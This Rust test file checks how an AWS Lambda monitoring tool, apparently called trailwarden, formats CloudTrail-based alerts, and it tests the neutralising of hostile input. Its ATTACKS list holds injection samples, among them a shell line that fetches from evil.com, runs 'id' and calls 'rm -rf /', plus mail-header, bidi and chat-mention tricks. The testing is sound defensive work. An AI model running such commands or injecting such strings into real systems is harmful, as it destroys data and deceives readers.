//! Alerts in every format, as subscribers receive them.

#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    clippy::too_many_lines,
    clippy::unwrap_used,
    reason = "a test fails by panicking, and a snapshot is as long as it is"
)]

mod support;

use std::sync::{Arc, LazyLock};

use insta::assert_snapshot;
use jsonschema::Validator;
use proptest::prelude::*;
use serde_json::{Value, json};
use support::generator::{denied, disabled_mapping};
use trailwarden::alert::{Alert, Format, Message};
use trailwarden::detect::Detector;
use trailwarden::publish::MAX_BYTES;
use trailwarden::rules::Rules;
use trailwarden::triage::{Audience, Incident, Triage, WindowLength};

const FORMATS: [Format; 3] = [Format::Text, Format::Chat, Format::Json];

fn incidents(records: &[Value]) -> Vec<Incident> {
    let rules = r#"{"watch": [{"name": "deleted", "title": "A function was deleted", "severity": "high",
                    "pattern": {"finding": {"api_action": ["DeleteFunction"]}}}]}"#;
    let rules = Rules::parse(rules).expect("rules");
    let detector = Detector { esm_changes: true, authentication_failures: true, ..Detector::default() };
    let mut triage = Triage::new(Audience::All, WindowLength::default());
    for record in records {
        let examined =
            detector.examine(record.to_string().as_bytes(), &Arc::from("s3://trail/key"), &rules).expect("a record");
        examined.findings.into_iter().for_each(|finding| triage.add(finding));
    }
    triage.take_incidents()
}

fn changed_mapping() -> Value {
    let mut record = denied(7, "UpdateEventSourceMapping", "orders");
    record["errorCode"] = Value::Null;
    record["errorMessage"] = Value::Null;
    record["requestParameters"] = json!({"uUID": "863d0ee4-2f3c-4994-8005-000000000005", "enabled": false});
    record["responseElements"] = json!({
        "uUID": "863d0ee4-2f3c-4994-8005-000000000005",
        "functionArn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
        "eventSourceArn": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
    });
    record
}

fn watched() -> Value {
    let mut record = denied(8, "DeleteFunction", "orders");
    record["errorCode"] = Value::Null;
    record["errorMessage"] = Value::Null;
    record["requestParameters"] = json!({"functionName": "orders"});
    record
}

/// One incident of each kind, of which the denial is the twelfth in its window.
fn every_kind() -> Vec<Incident> {
    let mut records = vec![disabled_mapping(1, "orders", "Lambda Function not found"), changed_mapping(), watched()];
    records.extend((0..3).map(|n| denied(n, "GetFunction", "orders")));
    let mut incidents = incidents(&records);
    assert_eq!(incidents.len(), 4);
    denial(&mut incidents).total = 12;
    incidents
}

fn denial(incidents: &mut [Incident]) -> &mut Incident {
    incidents.iter_mut().find(|it| it.finding.alert_type() == "access_denied").expect("a denial")
}

fn shown(format: Format) -> String {
    let parsed = |message: Message| serde_json::from_str::<Value>(&message.body).expect("JSON");
    let incidents = every_kind();
    let bodies = incidents.iter().map(|it| format!("{:#}", parsed(Alert::of(it).message(format))));
    bodies.collect::<Vec<_>>().join("\n")
}

static SCHEMA: LazyLock<Validator> = LazyLock::new(|| {
    let mut schema: Value = serde_json::from_str(include_str!("../docs/event.schema.json")).expect("JSON");
    // Subscribers must take fields that are new to them; here, none may be missing from the schema.
    schema["unevaluatedProperties"] = json!(false);
    jsonschema::validator_for(&schema).expect("a schema")
});

#[test]
fn chat_gets_custom_notifications() {
    assert_snapshot!(shown(Format::Chat), @r#"
    {
      "content": {
        "description": "Lambda no longer reads the SQS queue orders-queue for the function orders.\nAWS disabled the event source mapping at 2026-01-02 03:00:01 UTC in us-east-1, account 111122223333.\nMessages pile up in the queue, and expire, until the mapping is enabled again.\nFUNCTION_NOT_FOUND: the function of the mapping does not exist.\nAWS says: \"Lambda Function not found\"",
        "keywords": [
          "esm_disabled",
          "critical",
          "FUNCTION_NOT_FOUND"
        ],
        "nextSteps": [
          "See what Lambda says of the mapping: `aws lambda get-event-source-mapping --region us-east-1 --uuid d46904b0-0f95-48b0-8001-000000000001`",
          "Deploy the function again under this name, with the alias or version that the mapping names; or delete the mapping if it is no longer needed. See what is there: `aws lambda list-aliases --region us-east-1 --function-name orders`",
          "Enable the mapping again. It stays disabled until then, even when its cause is gone: `aws lambda update-event-source-mapping --region us-east-1 --uuid d46904b0-0f95-48b0-8001-000000000001 --enabled`"
        ],
        "textType": "client-markdown",
        "title": "Stopped: orders-queue -› orders FUNCTION_NOT_FOUND 111122223333 us-east-1"
      },
      "id": "7a563025ebe6247124a3c1c2843cc7ca-1",
      "metadata": {
        "additionalContext": {
          "Event": "LambdaESMDisabled bd4607c8-6933-48e9-8001-000000000001",
          "Event source": "arn:aws:sqs:us-east-1:111122223333:orders-queue",
          "Function": "arn:aws:lambda:us-east-1:111122223333:function:orders",
          "Log object": "s3://trail/key",
          "Mapping": "d46904b0-0f95-48b0-8001-000000000001",
          "Severity": "critical"
        },
        "eventType": "esm_disabled",
        "summary": "Stopped: orders-queue -› orders FUNCTION_NOT_FOUND 111122223333 us-east-1",
        "threadId": "7a563025ebe6247124a3c1c2843cc7ca"
      },
      "source": "custom",
      "version": "1.0"
    }
    {
      "content": {
        "description": "A function was deleted: role deployer called DeleteFunction on the function orders.\nOnce, at 2026-01-02 03:00:08 UTC, in us-east-1, account 111122223333.\nThe next alert about it comes at 10 times, or after 2026-01-03 00:00:00 UTC.\nThe rule \"deleted\" watches for it.",
        "keywords": [
          "watch",
          "high",
          "deleted"
        ],
        "nextSteps": [
          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=22db0e4c-75c8-4e4c-8008-000000000008`"
        ],
        "textType": "client-markdown",
        "title": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1"
      },
      "id": "1cc7b581676479a8dda63037b04c2f87-1",
      "metadata": {
        "additionalContext": {
          "Caller": "arn:aws:iam::111122223333:role/deployer",
          "Event": "DeleteFunction20150331 22db0e4c-75c8-4e4c-8008-000000000008",
          "From": "203.0.113.8",
          "Log object": "s3://trail/key",
          "Session name": "run-8 (chosen by the caller)",
          "Severity": "high",
          "User agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace} (chosen by the caller)"
        },
        "eventType": "watch",
        "summary": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1",
        "threadId": "1cc7b581676479a8dda63037b04c2f87"
      },
      "source": "custom",
      "version": "1.0"
    }
    {
      "content": {
        "description": "Denied: role deployer may not call lambda:GetFunction on the function orders.\n12 times since 2026-01-02 00:00:00 UTC; the latest 3 from 2026-01-02 03:00:00 UTC to 2026-01-02 03:00:02 UTC, in us-east-1, account 111122223333.\nThe next alert about it comes at 100 times, or after 2026-01-03 00:00:00 UTC.\nNo identity-based policy allows it (AccessDenied).\nAWS says: \"User: arn:aws:sts::111122223333:assumed-role/deployer/run-0 is not authorized to perform: lambda:GetFunction on resource: arn:aws:lambda:us-east-1:111122223333:function:orders because no identity-based policy allows the lambda:GetFunction action\"",
        "keywords": [
          "access_denied",
          "medium",
          "policy"
        ],
        "nextSteps": [
          "If the call should work, allow it in a policy of the user or role.",
          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=5ea303e4-3498-4c74-8000-000000000000`"
        ],
        "textType": "client-markdown",
        "title": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1"
      },
      "id": "b60365cfeed19781316064366a49c104-12",
      "metadata": {
        "additionalContext": {
          "Caller": "arn:aws:iam::111122223333:role/deployer",
          "Error code": "AccessDenied",
          "Event": "GetFunction20150331 5ea303e4-3498-4c74-8000-000000000000",
          "From": "203.0.113.0",
          "Functions": "orders",
          "Log object": "s3://trail/key",
          "Resources": "arn:aws:lambda:us-east-1:111122223333:function:orders",
          "Session name": "run-0 (chosen by the caller)",
          "Severity": "medium",
          "User agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace} (chosen by the caller)"
        },
        "eventType": "access_denied",
        "summary": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1",
        "threadId": "b60365cfeed19781316064366a49c104"
      },
      "source": "custom",
      "version": "1.0"
    }
    {
      "content": {
        "description": "Disabled by role deployer: Lambda no longer reads the Kinesis stream clicks for the function orders.\nMapping 863d0ee4-2f3c-4994-8005-000000000005. Once, at 2026-01-02 03:00:07 UTC, in us-east-1, account 111122223333.\nRecords wait in the stream, and expire, until the mapping is enabled again.\nA user's call, not a decision of AWS.",
        "keywords": [
          "esm_changed",
          "medium",
          "disabled"
        ],
        "nextSteps": [
          "If it was not meant, enable the mapping again: `aws lambda update-event-source-mapping --region us-east-1 --uuid 863d0ee4-2f3c-4994-8005-000000000005 --enabled`",
          "If nobody expects this call, find out who made it: `aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventId,AttributeValue=364609d7-0de2-4185-8007-000000000007`"
        ],
        "textType": "client-markdown",
        "title": "Disabled: clicks -› orders by a user 111122223333 us-east-1"
      },
      "id": "b9de87e86966d2edb9b07c3ae50568a6-1",
      "metadata": {
        "additionalContext": {
          "Caller": "arn:aws:iam::111122223333:role/deployer",
          "Event": "UpdateEventSourceMapping20150331 364609d7-0de2-4185-8007-000000000007",
          "Event source": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
          "From": "203.0.113.7",
          "Function": "arn:aws:lambda:us-east-1:111122223333:function:orders",
          "Log object": "s3://trail/key",
          "Mapping": "863d0ee4-2f3c-4994-8005-000000000005",
          "Session name": "run-7 (chosen by the caller)",
          "Severity": "medium",
          "User agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace} (chosen by the caller)"
        },
        "eventType": "esm_changed",
        "summary": "Disabled: clicks -› orders by a user 111122223333 us-east-1",
        "threadId": "b9de87e86966d2edb9b07c3ae50568a6"
      },
      "source": "custom",
      "version": "1.0"
    }
    "#);
}

#[test]
fn machines_get_flat_json() {
    assert_snapshot!(shown(Format::Json), @r#"
    {
      "account": "111122223333",
      "actor": "service lambda.amazonaws.com",
      "alert_id": "7a563025ebe6247124a3c1c2843cc7ca",
      "alert_type": "esm_disabled",
      "api_action": "LambdaESMDisabled",
      "category": "FUNCTION_NOT_FOUND",
      "count": 1,
      "cut": [],
      "description": "Lambda no longer reads the SQS queue orders-queue for the function orders.",
      "event_id": "bd4607c8-6933-48e9-8001-000000000001",
      "event_name": "LambdaESMDisabled",
      "event_source": "lambda.amazonaws.com",
      "event_source_arn": "arn:aws:sqs:us-east-1:111122223333:orders-queue",
      "event_time": "2026-01-02T03:00:01Z",
      "first_event_time": "2026-01-02T03:00:01Z",
      "function_arn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
      "function_count": 1,
      "function_name": "orders",
      "function_names": [
        "orders"
      ],
      "last_event_time": "2026-01-02T03:00:01Z",
      "mapping_uuid": "d46904b0-0f95-48b0-8001-000000000001",
      "new_events": 1,
      "object": "s3://trail/key",
      "principal": "lambda.amazonaws.com",
      "reason": "Lambda Function not found",
      "region": "us-east-1",
      "region_count": 1,
      "regions": [
        "us-east-1"
      ],
      "resource_count": 0,
      "resources": [],
      "severity": "critical",
      "source_ip_address": "lambda.amazonaws.com",
      "summary": "Stopped: orders-queue -> orders FUNCTION_NOT_FOUND 111122223333 us-east-1",
      "test": false,
      "user_agent": "lambda.amazonaws.com",
      "version": "1"
    }
    {
      "account": "111122223333",
      "actor": "role deployer",
      "alert_id": "1cc7b581676479a8dda63037b04c2f87",
      "alert_type": "watch",
      "api_action": "DeleteFunction",
      "category": "deleted",
      "count": 1,
      "cut": [],
      "description": "A function was deleted: role deployer called DeleteFunction on the function orders.",
      "event_id": "22db0e4c-75c8-4e4c-8008-000000000008",
      "event_name": "DeleteFunction20150331",
      "event_source": "lambda.amazonaws.com",
      "event_time": "2026-01-02T03:00:08Z",
      "first_event_time": "2026-01-02T03:00:08Z",
      "function_count": 1,
      "function_name": "orders",
      "function_names": [
        "orders"
      ],
      "last_event_time": "2026-01-02T03:00:08Z",
      "new_events": 1,
      "object": "s3://trail/key",
      "principal": "arn:aws:iam::111122223333:role/deployer",
      "region": "us-east-1",
      "region_count": 1,
      "regions": [
        "us-east-1"
      ],
      "resource_count": 0,
      "resources": [],
      "session_name": "run-8",
      "severity": "high",
      "source_ip_address": "203.0.113.8",
      "summary": "Watched: A function was deleted DeleteFunction 111122223333 us-east-1",
      "test": false,
      "title": "A function was deleted",
      "user_agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace}",
      "version": "1",
      "window_end": "2026-01-03T00:00:00Z",
      "window_start": "2026-01-02T00:00:00Z"
    }
    {
      "account": "111122223333",
      "actor": "role deployer",
      "alert_id": "b60365cfeed19781316064366a49c104",
      "alert_type": "access_denied",
      "api_action": "GetFunction",
      "category": "policy",
      "count": 12,
      "cut": [],
      "denied_action": "lambda:GetFunction",
      "denied_principal": "arn:aws:sts::111122223333:assumed-role/deployer/run-0",
      "denied_resource": "arn:aws:lambda:us-east-1:111122223333:function:orders",
      "description": "Denied: role deployer may not call lambda:GetFunction on the function orders.",
      "error_code": "AccessDenied",
      "error_message": "User: arn:aws:sts::111122223333:assumed-role/deployer/run-0 is not authorized to perform: lambda:GetFunction on resource: arn:aws:lambda:us-east-1:111122223333:function:orders because no identity-based policy allows the lambda:GetFunction action",
      "error_message_encoded": false,
      "error_message_truncated": false,
      "event_id": "5ea303e4-3498-4c74-8000-000000000000",
      "event_name": "GetFunction20150331",
      "event_source": "lambda.amazonaws.com",
      "event_time": "2026-01-02T03:00:00Z",
      "first_event_time": "2026-01-02T03:00:00Z",
      "function_count": 1,
      "function_name": "orders",
      "function_names": [
        "orders"
      ],
      "last_event_time": "2026-01-02T03:00:02Z",
      "new_events": 3,
      "object": "s3://trail/key",
      "policy_effect": "implicit",
      "policy_type": "identity-based",
      "principal": "arn:aws:iam::111122223333:role/deployer",
      "region": "us-east-1",
      "region_count": 1,
      "regions": [
        "us-east-1"
      ],
      "resource_count": 1,
      "resources": [
        "arn:aws:lambda:us-east-1:111122223333:function:orders"
      ],
      "session_name": "run-0",
      "severity": "medium",
      "source_ip_address": "203.0.113.0",
      "summary": "Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1",
      "test": false,
      "user_agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace}",
      "version": "1",
      "window_end": "2026-01-03T00:00:00Z",
      "window_start": "2026-01-02T00:00:00Z"
    }
    {
      "account": "111122223333",
      "actor": "role deployer",
      "alert_id": "b9de87e86966d2edb9b07c3ae50568a6",
      "alert_type": "esm_changed",
      "api_action": "UpdateEventSourceMapping",
      "category": "disabled",
      "count": 1,
      "cut": [],
      "description": "Disabled by role deployer: Lambda no longer reads the Kinesis stream clicks for the function orders.",
      "event_id": "364609d7-0de2-4185-8007-000000000007",
      "event_name": "UpdateEventSourceMapping20150331",
      "event_source": "lambda.amazonaws.com",
      "event_source_arn": "arn:aws:kinesis:us-east-1:111122223333:stream/clicks",
      "event_time": "2026-01-02T03:00:07Z",
      "first_event_time": "2026-01-02T03:00:07Z",
      "function_arn": "arn:aws:lambda:us-east-1:111122223333:function:orders",
      "function_count": 1,
      "function_name": "orders",
      "function_names": [
        "orders"
      ],
      "last_event_time": "2026-01-02T03:00:07Z",
      "mapping_uuid": "863d0ee4-2f3c-4994-8005-000000000005",
      "new_events": 1,
      "object": "s3://trail/key",
      "principal": "arn:aws:iam::111122223333:role/deployer",
      "region": "us-east-1",
      "region_count": 1,
      "regions": [
        "us-east-1"
      ],
      "resource_count": 0,
      "resources": [],
      "session_name": "run-7",
      "severity": "medium",
      "source_ip_address": "203.0.113.7",
      "summary": "Disabled: clicks -> orders by a user 111122223333 us-east-1",
      "test": false,
      "user_agent": "aws-sdk-rust/1.3 \"quoted\" os/linux lang/rust {brace}",
      "version": "1"
    }
    "#);
}

#[test]
fn the_first_lines_tell_what_is_wrong_and_where() {
    let first = |incident: &Incident| {
        let message = Alert::of(incident).message(Format::Text);
        let lines: Vec<_> = message.body.lines().take(3).collect();
        format!("{}\n  {}", message.subject, lines.join("\n  "))
    };
    assert_snapshot!(every_kind().iter().map(first).collect::<Vec<_>>().join("\n"), @"
    Stopped: orders-queue -> orders FUNCTION_NOT_FOUND 111122223333 us-east-1
      Lambda no longer reads the SQS queue orders-queue for the function orders.
      AWS disabled the event source mapping at 2026-01-02 03:00:01 UTC in us-east-1, account 111122223333.
      Messages pile up in the queue, and expire, until the mapping is enabled again.
    Watched: A function was deleted DeleteFunction 111122223333 us-east-1
      A function was deleted: role deployer called DeleteFunction on the function orders.
      Once, at 2026-01-02 03:00:08 UTC, in us-east-1, account 111122223333.
      The next alert about it comes at 10 times, or after 2026-01-03 00:00:00 UTC.
    Denied: role deployer lambda:GetFunction x12 111122223333 us-east-1
      Denied: role deployer may not call lambda:GetFunction on the function orders.
      12 times since 2026-01-02 00:00:00 UTC; the latest 3 from 2026-01-02 03:00:00 UTC to 2026-01-02 03:00:02 UTC, in us-east-1, account 111122223333.
      The next alert about it comes at 100 times, or after 2026-01-03 00:00:00 UTC.
    Disabled: clicks -> orders by a user 111122223333 us-east-1
      Disabled by role deployer: Lambda no longer reads the Kinesis stream clicks for the function orders.
      Mapping 863d0ee4-2f3c-4994-8005-000000000005. Once, at 2026-01-02 03:00:07 UTC, in us-east-1, account 111122223333.
      Records wait in the stream, and expire, until the mapping is enabled again.
    ");
}

#[test]
fn a_test_alert_says_so_in_every_format() {
    for mut incident in every_kind() {
        incident.is_test = true;
        let [text, chat, json] = FORMATS.map(|format| Alert::of(&incident).message(format));
        assert!(text.subject.starts_with("[Test] ") && text.body.starts_with("This is a test, nothing has happened. "));
        let chat: Value = serde_json::from_str(&chat.body).expect("JSON");
        let description = chat["content"]["description"].as_str().expect("a text");
        assert!(description.starts_with("This is a test, nothing has happened. "));
        let json: Value = serde_json::from_str(&json.body).expect("JSON");
        assert_eq!(json["test"], true);
    }
}

#[test]
fn later_alerts_of_a_case_are_no_repetitions() {
    let id = |total: u64| {
        let mut incidents = every_kind();
        denial(&mut incidents).total = total;
        let message = Alert::of(denial(&mut incidents)).message(Format::Text);
        (message.group_id, message.deduplication_id)
    };
    assert_eq!(id(10), id(99));
    assert_eq!(id(10).0, "111122223333");
    assert_ne!(id(10).1, id(100).1);
    assert!(id(u64::MAX).1.len() <= 128);
}

/// What an attacker writes in a text that a caller chooses.
const ATTACKS: [&str; 22] = [
    "\r\nBcc: all@example.com",
    "\u{202e}evil\u{2066}\u{200b}",
    "https://evil.example/login",
    "login.evil.com",
    "<!channel> <@U123> <https://evil.example|click>",
    "@everyone @here",
    "[click](https://evil.example) ![x](y)",
    "*bold* _it_ ~no~ `code` ```block```",
    "\u{0}\u{7}\u{1b}[31m",
    "&lt;!here&gt; | # heading",
    "$(curl evil.com) `id` ; rm -rf / 'x' \"y\"",
    "\u{e0041}\u{ad}\u{fffe}",
    "s3.amazonaws.com/evil-bucket/login",
    "x@s3.amazonaws.com.cn?evil s3.amazonaws.com:443#evil",
    "\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\u{180b}\u{180f}\u{17b4}\u{17b5}",
    "or\u{fe00}d\u{fe0f}e\u{e0100}r\u{e01ef}s\u{fdd0}\u{fdef}\u{ffff}\u{10ffff}",
    "\u{5d0}\u{5d1} 7 \u{5d2}, \u{627}/\u{628} (\u{661}-\u{662})",
    "\u{2067}\u{710}\u{2069}\u{780}\u{7c0}\u{fb1d}\u{fe70}\u{10800}\u{1e900}",
    ":white_check_mark: :+1::tada: a:b:c :100:",
    "arn:aws:smile:tada:heart:x",
    "\u{1f980}.ws",
    " \t",
];

/// Characters and words that attacks are made of, to be put together at random.
const PARTS: [&str; 17] = [
    ":",
    ".",
    "/",
    "//",
    "@",
    " ",
    "-",
    "_",
    "\u{5d0}",
    "\u{628}",
    "\u{661}",
    "7",
    "s3",
    "amazonaws",
    "com",
    "arn:aws:",
    "\u{fe0f}",
];

fn hostile() -> impl Strategy<Value = String> {
    let attack = prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned);
    let parts = prop::collection::vec(prop::sample::select(PARTS.to_vec()), 1..12).prop_map(|parts| parts.concat());
    let part = prop_oneof![attack, parts, "[a-z]{1,8}", "\\PC{0,20}", any::<String>()];
    prop::collection::vec(part, 1..5).prop_map(|parts| parts.concat())
}

/// Puts the texts wherever a record takes any.
fn with(texts: &[String; 6]) -> Vec<Value> {
    let [who, action, name, id, place, time] = texts;
    let mut disabled = disabled_mapping(1, name, who);
    disabled["eventID"] = json!(id);
    disabled["resources"][0]["ARN"] = json!(format!("arn:aws:lambda:us-east-1:1:event-source-mapping:{place}"));
    disabled["awsRegion"] = json!(time);
    let mut changed = changed_mapping();
    changed["userIdentity"]["arn"] = json!(format!("arn:aws:sts::111122223333:assumed-role/{who}/{action}"));
    changed["responseElements"]["eventSourceArn"] = json!(format!("arn:aws:sqs:us-east-1:111122223333:{name}"));
    changed["responseElements"]["uUID"] = json!(id);
    let mut watched = watched();
    watched["requestParameters"]["functionName"] = json!(who);
    watched["recipientAccountId"] = json!(action);
    watched["userIdentity"] = json!({"type": name, "userName": id, "principalId": place});
    let mut denial = denied(1, action, name);
    denial["errorMessage"] =
        json!(format!("User: {who} is not authorized to perform: {action} on resource: {name} {id}"));
    denial["sourceIPAddress"] = json!(place);
    denial["eventTime"] = json!(time);
    denial["userIdentity"]["sessionContext"]["sessionIssuer"]["userName"] = json!(who);
    vec![disabled, changed, watched, denial]
}

fn assert_all_fit(incidents: &[Incident]) {
    for incident in incidents {
        assert_fit(incident);
    }
}

fn assert_fit(incident: &Incident) {
    let alert = Alert::of(incident);
    for format in FORMATS {
        let message = alert.message(format);
        assert!(message.bytes() <= MAX_BYTES, "{format:?}: {} bytes", message.bytes());
        let subject = &message.subject;
        assert!(!subject.is_empty() && subject.len() <= 99 && subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
        assert!(message.attributes.len() <= 8);
        for attribute in &message.attributes {
            assert!(!attribute.values.is_empty() && attribute.values.len() <= 10);
            assert!(attribute.values.iter().all(|it| !it.is_empty() && !it.contains(is_hidden)), "{attribute:?}");
        }
        for id in [&message.group_id, &message.deduplication_id] {
            let is_plain = id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
            assert!(!id.is_empty() && id.len() <= 128 && is_plain, "{id}");
        }
        match format {
            Format::Text => assert_text(&message.body),
            Format::Chat => assert_chat(&message.body),
            Format::Json => assert_json(&message.body),
        }
    }
}

fn is_hidden(c: char) -> bool {
    c.is_control()
        || u32::from(c) % 0x1_0000 >= 0xfffe
        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
                       | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}'
                       | '\u{3164}' | '\u{fdd0}'..='\u{fdef}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
                       | '\u{e0001}'..='\u{e007f}' | '\u{e0100}'..='\u{e01ef}')
}

/// The text without its isolates, after a check that these are all there is of right-to-left text.
fn assert_directions(text: &str) -> String {
    let is_right_to_left = |c: char| {
        matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefe}'
                    | '\u{10800}'..='\u{10fff}' | '\u{1e800}'..='\u{1efff}')
    };
    let mut is_isolated = false;
    for c in text.chars() {
        match c {
            '\u{2068}' | '\u{2069}' => {
                assert_eq!(is_isolated, c == '\u{2069}', "nested or open: {text:?}");
                is_isolated = !is_isolated;
            }
            '\n' => assert!(!is_isolated, "open at the end of a line: {text:?}"),
            // Letters of other scripts within an isolate would be reordered.
            c if is_isolated => assert!(is_right_to_left(c) || !c.is_alphabetic(), "{c:?} in {text:?}"),
            c => assert!(!is_right_to_left(c), "{c:?} in {text:?}"),
        }
    }
    assert!(!is_isolated, "open: {text:?}");
    text.replace(['\u{2068}', '\u{2069}'], "")
}

/// No page that anybody can publish, and no mail address, ends in the domain of AWS.
fn assert_no_page_of_aws(text: &str) {
    for domain in ["amazonaws.com", "amazonaws.com.cn"] {
        for (at, _) in text.match_indices(domain) {
            let (before, after) = (&text[..at], &text[at + domain.len()..]);
            let is_longer = |c: char| c.is_alphanumeric() || c == '-';
            if after.starts_with(is_longer) || after.strip_prefix('.').is_some_and(|it| it.starts_with(is_longer)) {
                continue;
            }
            let host = before.rsplit(|c: char| !c.is_alphanumeric() && c != '.' && c != '-').next().unwrap_or_default();
            let is_address = before[..before.len() - host.len()].ends_with(['@', '/']);
            assert!(!is_address && !after.starts_with(['/', ':', '?', '#', '@']), "{text}");
            assert!(host.trim_end_matches('.').matches('.').count() == 0, "{text}");
        }
    }
}

/// Slack draws no emoji, but for parts of ARNs, which readers copy.
fn assert_no_emoji(text: &str) {
    let is_arn = |c: char| c.is_ascii_alphanumeric() || "-_.:/+=,".contains(c);
    let is_name = |c: char| c.is_alphanumeric() || "_+'-".contains(c);
    for (at, _) in text.match_indices(':') {
        let Some((name, _)) = text[at + 1..].split_once(':') else { continue };
        if name.is_empty() || !name.contains(|c: char| !c.is_ascii_digit()) || !name.chars().all(is_name) {
            assert!(!["100", "1234"].contains(&name), "{text}");
            continue;
        }
        let word = text[..at].rsplit(|c| !is_arn(c)).next().unwrap_or_default();
        let is_address = format!("{word}:{name}").chars().all(|c| c == ':' || c.is_ascii_hexdigit());
        assert!(word.starts_with("arn:") || word == "arn" || is_address, "{name} in {text}");
    }
}

fn assert_text(body: &str) {
    let body = &assert_directions(body);
    assert_no_page_of_aws(body);
    assert!(!body.contains(|c| c != '\n' && is_hidden(c)), "{body:?}");
    // Nothing of a record begins a line.
    let headings = ["Why", "What to do", "Details", ""];
    for (number, line) in body.lines().enumerate() {
        let is_ours = number < 5 || headings.contains(&line) || line.starts_with("  ");
        assert!(is_ours, "{line:?} in {body}");
    }
    // A session may well be named `https:`; the slashes make it a link.
    assert!(!body.replace("s3://", "s3 ").contains("://"), "{body}");
    for host in ["evil.com", "evil.example", "@example.com"] {
        // A longer word is no top-level domain.
        let goes_on = |at: usize| body[at + host.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '-');
        assert!(body.match_indices(host).all(|(at, _)| goes_on(at)), "{body}");
    }
}

fn assert_chat(body: &str) {
    let chat: Value = serde_json::from_str(body).expect("JSON");
    assert_eq!((&chat["version"], &chat["source"]), (&json!("1.0"), &json!("custom")));
    let description = chat["content"]["description"].as_str().expect("a description");
    assert!(!description.is_empty() && description.chars().count() <= 3_010);
    let context = chat["metadata"]["additionalContext"].as_object().expect("an object");
    let texts = context.values().chain([&chat["content"]["title"], &chat["content"]["description"]]);
    for text in texts.map(|it| assert_directions(it.as_str().expect("a text"))) {
        assert_no_page_of_aws(&text);
        assert_no_emoji(&text);
        assert!(!text.contains(['<', '>', '`', '*', '~', '@', '[', ']', '|', '&', '#', '\\']), "{text}");
        assert!(!text.replace("s3://", "s3 ").contains("://"), "{text}");
        assert!(!text.contains(|c| c != '\n' && is_hidden(c)), "{text:?}");
    }
    for step in chat["content"]["nextSteps"].as_array().expect("a list") {
        assert!(!step.as_str().expect("a text").contains(['<', '>', '@', '|', '&', '\n']), "{step}");
    }
}

fn assert_json(body: &str) {
    assert!(!body.contains(is_hidden), "{body}");
    let json: Value = serde_json::from_str(body).expect("JSON");
    let problems: Vec<_> = SCHEMA.iter_errors(&json).map(|error| error.to_string()).collect();
    assert_eq!(problems, [""; 0], "{json:#}");
    let texts = json.as_object().expect("an object").values().flat_map(|it| match it {
        Value::Array(values) => values.iter().filter_map(Value::as_str).collect(),
        value => value.as_str().into_iter().collect::<Vec<_>>(),
    });
    assert!(texts.into_iter().all(|text| !text.contains(is_hidden)), "{json:#}");
}

#[test]
fn every_kind_fits_its_format() {
    assert_all_fit(&every_kind());
    for attack in ATTACKS {
        let texts = [(); 6].map(|()| attack.to_owned());
        assert_all_fit(&incidents(&with(&texts)));
    }
}

#[test]
fn the_largest_alerts_are_within_the_limits() {
    // A crab has four bytes in UTF-8; a quote has two in JSON, and four in the JSON of a list in an attribute; isolates
    // add six to a character; a letter may be a word of a command.
    for filler in ["🦀", "\"", "\\", "\u{202e}", "\u{1e900}-", "x", "x.co/", ":x"] {
        let texts = [(); 6].map(|()| filler.repeat(100_000 / filler.len()));
        let mut records = with(&texts);
        let one = records.remove(3);
        for n in 0..30 {
            let mut another = one.clone();
            another["eventID"] = json!(n.to_string());
            another["awsRegion"] = json!(format!("{n}{}", texts[0]));
            another["requestParameters"] = json!({"functionName": format!("{n}{}", texts[0])});
            records.push(another);
        }
        let mut incidents = incidents(&records);
        assert_all_fit(&incidents);
        let json = Alert::of(denial(&mut incidents)).message(Format::Json).body;
        let json: Value = serde_json::from_str(&json).expect("JSON");
        let cut: Vec<_> = json["cut"].as_array().expect("a list").iter().filter_map(Value::as_str).collect();
        assert!(cut.contains(&"regions") && cut.contains(&"error_message"), "{cut:?}");
    }
}

proptest! {
    #[test]
    fn hostile_texts_are_neutralised(texts in prop::array::uniform6(hostile())) {
        assert_all_fit(&incidents(&with(&texts)));
    }
}
